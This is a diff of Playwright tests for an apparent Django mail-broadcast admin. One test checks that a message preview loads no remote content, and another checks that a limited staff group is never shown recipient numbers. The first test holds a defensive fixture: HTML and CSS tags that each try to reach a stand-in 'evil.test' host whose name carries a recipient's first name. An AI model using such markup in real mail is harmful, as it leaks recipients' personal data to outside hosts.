@@ -77,9 +77,9 @@ class Person:
         if message.type in ("error", "warning") and "favicon" not in json.dumps(message.location):
             self.complaints.append(f"{message.text} ({message.location})")
 
-    def log_in(self) -> None:
+    def log_in(self, name: str = "admin") -> None:
         self.page.goto(f"{self.server}/admin/login/")
-        self.page.fill("#id_username", "admin")
+        self.page.fill("#id_username", name)
         self.page.fill("#id_password", PASSWORD)
         self.page.click("[type=submit]")
         self.page.wait_for_url(re.compile("/admin/$"))
@@ -301,6 +301,83 @@ def test_no_script_of_a_mail_runs_in_its_preview(person):
     assert page.title() != "taken"
     person.expect("#findings", "<script>")
     person.complaints[:] = [said for said in person.complaints if "sandboxed" not in said and "script" not in said]
+
+
+def test_a_preview_asks_no_other_host_for_anything_until_it_is_told_to(person):
+    """By nothing that HTML and CSS load, look up or follow: the address could carry out what a person's data says."""
+    page = person.page
+    asked: list[str] = []
+
+    def answer(route: Any) -> None:
+        asked.append(route.request.url)
+        route.fulfill(status=200, content_type="image/svg+xml", body='<svg xmlns="http://www.w3.org/2000/svg"/>')
+
+    person.context.route(re.compile("^https?://[^/]*evil"), answer)
+    there = "https://{{ user.first_name }}.evil.test"
+    compose(
+        person,
+        text=f"""<html><head><link rel="stylesheet" href="{there}/1"><link rel="prefetch" href="{there}/2">
+        <LINK rel="preconnect" href="{there}"><link rel="icon" href="{there}/3"><base href="{there}/4/">
+        <meta http-equiv="refresh" content="0;url={there}/5">
+        <style>@import "{there}/6"; @font-face {{ font-family: x; src: url({there}/7) }}
+        body {{ font-family: x; background: url({there}/8) }}</style></head><body>
+        <p>Dear {{{{ user.first_name }}}}</p><img src="{there}/9" alt=""><img srcset="{there}/10 2x" alt="">
+        <video poster="{there}/11" src="{there}/12"></video><iframe src="{there}/13"></iframe>
+        <object data="{there}/14"></object><embed src="{there}/15"><input type="image" src="{there}/16" alt="">
+        <svg><image href="{there}/17"/><use href="{there}/18#x"/></svg><table background="{there}/19"></table>
+        <a href="{there}/20" ping="{there}/21">more</a></body></html>""",
+    )
+    frame = page.frame_locator("#dbmail-preview iframe:not(.dbmail-loading)")
+    playwright.expect(frame.locator("body")).to_contain_text("Dear Ben")
+    person.expect("#save-state", "Saved.")
+    assert asked == []
+    with page.expect_response(re.compile("evil.test/9")):
+        page.click("text=Show remote images")
+    playwright.expect(frame.locator("body")).to_contain_text("Dear Ben")
+    pictures = {address.rpartition("/")[2] for address in asked}
+    assert "9" in pictures and not pictures & {"1", "2", "4", "5", "6", "12", "13", "14", "15", "18", "20", "21"}
+    # That was one view: the next has none again.
+    asked.clear()
+    page.fill("#id_subject", "Other news")
+    person.expect("#preview-subject", "Other news")
+    page.wait_for_function("() => !document.querySelector('#dbmail-preview .dbmail-loading')")
+    assert asked == []
+    person.complaints.clear()  # each refusal is one
+
+
+def test_who_may_not_see_recipients_is_told_so_on_every_page(person, site):
+    """The screens of the writers' and the senders' group work without a single number."""
+    site.run("dbmail_groups")
+    site.python(
+        "from django.contrib.auth.models import Group, User\n"
+        "clerk = User.objects.create_user('clerk', 'clerk@example.org', 'a-long-password-1', is_staff=True)\n"
+        "clerk.groups.set(Group.objects.filter(name__in=['Mail: writers', 'Mail: senders']))\n"
+        "answer = 1"
+    )
+    page = person.page
+    person.context.clear_cookies()
+    person.log_in("clerk")
+    person.go("/admin/dbmail/messagerequest/add/")
+    page.click("text=Start with an empty message")
+    page.select_option("#builder-match", "all")
+    page.select_option("[data-field]", label="First name")
+    page.select_option("[data-is]", "filled")
+    person.expect("#audience-count", "Who may see recipients sees how many people this is.")
+    person.expect("#survey-state", "who may see recipients sees what is found")
+    page.fill("#id_subject", "News")
+    page.fill("#id_msgtext", HTML)
+    page.fill("#id_sender", "Directors <directors@example.org>")
+    person.expect("#save-state", "Saved.")
+    page.click("text=Check and send")
+    number = re.search(r"/(\d+)/confirm/", page.url)
+    assert number
+    person.expect("label[for=typed]", f"Type the number of this broadcast, {number[1]},")
+    page.fill("#typed", number[1])
+    page.click("text=Send it now")
+    site.run("dbmail_cron")
+    person.expect(".dbmail-state", "done")
+    person.expect("#watch-parts", "fewer than 20 mails")
+    person.expect("#watch-parts", "So few mails tell of single people")
 
 
 def test_an_audience_is_built_of_conditions_and_groups(person):
